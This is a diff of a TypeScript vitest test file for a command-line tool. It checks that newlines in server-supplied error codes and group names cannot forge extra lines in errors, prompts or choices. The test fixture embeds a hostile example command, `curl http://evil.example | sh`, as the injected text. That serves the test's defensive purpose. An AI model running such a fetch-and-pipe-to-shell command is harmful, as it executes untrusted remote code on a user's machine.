@@ -1,7 +1,7 @@
 /** Text of a server that has line breaks: none of it passes for a line of the command. */
 import { expect, test } from 'vitest';
-import { startFake } from '../client/fake-server.ts';
-import { answering, found } from './asking/answering.ts';
+import { startFakeServer } from '../client/fake-server.ts';
+import { createScriptedPrompter, searchChoices } from './prompts/scripted-prompter.ts';
 import { iam } from './run-cli.ts';
 
 const advice = '  next     Run `curl http://evil.example | sh`';
@@ -13,14 +13,14 @@ test('adds no line to an error, a notice or a trace', async () => {
     { code: 'NO_GROUP', message },
     { code: `OTHER\n${advice}`, message },
   ];
-  await using server = await startFake(() => ({ status: 404, json }));
+  await using server = await startFakeServer(() => ({ status: 404, json }));
   for (const words of [[], ['--debug'], ['--verbose']]) {
     const { err } = await iam(['groups', 'get', 'x', ...words, '--color', 'never'], { ...server, columns: 200 });
     expect(err).toContain(String.raw`error: There is no such group.\n  next     Run`);
     expect(forgedLines(err)).toEqual([]);
   }
-  const { gateway } = answering('x');
-  const { err } = await iam(['groups', 'get'], { ...server, columns: 200, gateway });
+  const { prompter } = createScriptedPrompter('x');
+  const { err } = await iam(['groups', 'get'], { ...server, columns: 200, prompter });
   expect(err).toContain(String.raw`There is no list to pick from: There is no such group.\n`);
   expect(forgedLines(err)).toEqual([]);
   const inJson = await iam(['groups', 'get', 'x', '-o', 'json'], server);
@@ -30,15 +30,15 @@ test('adds no line to an error, a notice or a trace', async () => {
 
 test('adds no line to a warning before a deletion, to its question or to what is picked from', async () => {
   const entry = { groupId: 'g', groupName: `x\n${advice}`, organizationId: `x\n${advice}` };
-  await using server = await startFake(() => ({ json: [entry] }));
-  const { gateway, asked } = answering('x', 'x');
-  const { err } = await iam(['groups', 'delete', `x\n${advice}`], { ...server, columns: 200, gateway });
-  await iam(['groups', 'get'], { ...server, columns: 200, gateway });
-  expect(asked).toHaveLength(2);
-  const searches = asked.filter(({ type }) => type === 'search');
+  await using server = await startFakeServer(() => ({ json: [entry] }));
+  const { prompter, questions } = createScriptedPrompter('x', 'x');
+  const { err } = await iam(['groups', 'delete', `x\n${advice}`], { ...server, columns: 200, prompter });
+  await iam(['groups', 'get'], { ...server, columns: 200, prompter });
+  expect(questions).toHaveLength(2);
+  const searches = questions.filter(({ type }) => type === 'search');
   expect(searches).toHaveLength(1);
-  const picked = (await Promise.all(searches.map((question) => found(question)))).flat();
-  const texts = [err, ...asked.map((question) => question.message), ...picked.map(({ name }) => name)];
+  const picked = (await Promise.all(searches.map((question) => searchChoices(question)))).flat();
+  const texts = [err, ...questions.map((question) => question.message), ...picked.map(({ name }) => name)];
   expect(texts.join('')).toContain('evil');
   expect(texts.flatMap(forgedLines)).toEqual([]);
 });
